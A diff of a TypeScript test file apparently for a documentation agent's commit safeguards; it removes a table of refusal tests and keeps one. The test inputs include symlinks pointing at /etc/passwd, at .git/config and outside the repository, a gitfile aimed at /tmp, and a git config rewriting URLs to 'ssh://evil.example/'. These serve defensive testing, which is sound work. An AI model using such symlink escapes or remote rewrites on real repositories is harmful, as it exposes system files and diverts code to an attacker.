@@ -127,25 +127,12 @@ ${detour ? '[url "ssh://evil.example/"]\n  insteadOf = /' : ''}
     });
   }
 
-  const refusals: [string, string, RegExp][] = [
-    ['a link to an absolute path', 'ln -s /etc/passwd docs/secret', /link that leads out .* “docs\/secret”/],
-    ['a link that climbs out', 'ln -s ../../secret docs/secret', /link that leads out .* “docs\/secret”/],
-    ['a link through a link', 'ln -s . s; ln -s s/../secret secret', /link that leads out .* “secret”/],
-    ['a link into .git', 'ln -s .git/config config', /link that leads out .* “config”/],
-    ['a repository inside', 'git init -q nested; touch nested/x', /repository inside the repository at “nested\/.git”/],
-    ['a gitfile inside', 'mkdir nested; echo gitdir: /tmp > nested/.git', /repository inside .* “nested\/.git”/],
-    ['a name that is .git elsewhere', 'mkdir git~1; touch git~1/x', /^The changes could not be committed: .*git~1/],
-    ['a named pipe', 'mkfifo .gitattributes', /special file at “.gitattributes”/],
-  ];
-  for (const [name, script, words] of refusals) {
-    it(`keep out ${name}`, async () => {
-      const { job, bench } = await runAgent(`echo more >> README.md\n${script}\n`);
-      assert.equal(job.status, 'failed');
-      assert.match(String(job['error']), words);
-      assert.equal(job.prLink, null);
-      assert.equal(await git(bench.repo, 'branch', '--list', 'docs-agent/*'), '');
-    });
-  }
+  it('commit nothing of work with a link that leads out, and make no branch of it', async () => {
+    const { job, bench, id } = await runAgent('echo more >> README.md; ln -s /etc/passwd docs/secret');
+    assert.deepEqual([job.status, job.prLink], ['failed', null]);
+    assert.match(String(job['error']), /link that leads out .* “docs\/secret”/);
+    assert.equal(await git(bench.repo, 'branch', '--list', `docs-agent/${id}`), '');
+  });
 
   it('do nothing through a .git that leads elsewhere', async () => {
     const elsewhere = join(folder, 'elsewhere');
@@ -155,10 +142,5 @@ ${detour ? '[url "ssh://evil.example/"]\n  insteadOf = /' : ''}
     assert.equal(job.status, 'completed', String(job['error']));
     assert.equal(await git(elsewhere, 'rev-parse', 'HEAD'), head);
     assert.equal(await git(elsewhere, 'status', '--porcelain'), '');
-  });
-
-  it('keep links that stay inside', async () => {
-    const { job } = await runAgent('ln -s ../README.md docs/readme.md; ln -s docs/index.md index.md');
-    assert.equal(job.status, 'completed', String(job['error']));
   });
 });
